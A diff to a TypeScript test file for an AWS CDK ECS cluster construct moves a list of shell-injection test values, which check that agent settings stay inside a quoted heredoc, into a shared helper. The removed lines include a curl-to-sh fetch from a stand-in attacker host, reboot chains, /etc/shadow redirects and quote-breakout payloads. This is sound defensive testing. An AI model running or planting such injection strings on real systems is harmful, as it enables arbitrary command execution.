@@ -5,6 +5,7 @@ import * as path from 'path';
 import { CfnParameter, Stack, aws_ec2 as ec2 } from 'aws-cdk-lib';
 import { Template } from 'aws-cdk-lib/assertions';
 import { EcsCluster, EcsMachineImage } from '../../src';
+import { HOSTILE_AGENT_SETTING_VALUES } from '../helpers/user-data';
 import { errorOf } from '../helpers/validators';
 
 const TERMINATOR = 'CDK_ECS_KIT_AGENT_CONFIG';
@@ -25,26 +26,7 @@ function clusterWithAgentSettings(agentSettings: { [key: string]: string }): Sta
   return stack;
 }
 
-/** Values that would run commands, redirect output or end the config early if a shell interpreted them. */
-const HOSTILE_VALUES = [
-  'prefer-cached;curl https://evil.example/x|sh',
-  'prefer-cached && reboot',
-  'prefer-cached || reboot',
-  'a & reboot &',
-  'x > /etc/passwd',
-  'x < /etc/shadow',
-  '$(touch PWNED)',
-  '`touch PWNED`',
-  '${HOME}$PATH',
-  '"; touch PWNED; echo "',
-  "'; touch PWNED; echo '",
-  'back\\slash\\',
-  '{"team":"shop","owner":"a b"}',
-  '#not-a-comment',
-  `${TERMINATOR}`,
-  `EOF ${TERMINATOR}`,
-  'ünïcødé ✓',
-];
+const HOSTILE_VALUES = HOSTILE_AGENT_SETTING_VALUES;
 
 describe('EcsCluster user data: agent settings never reach a shell', () => {
   test.each(HOSTILE_VALUES)('the value %j is written inside the quoted heredoc only', value => {
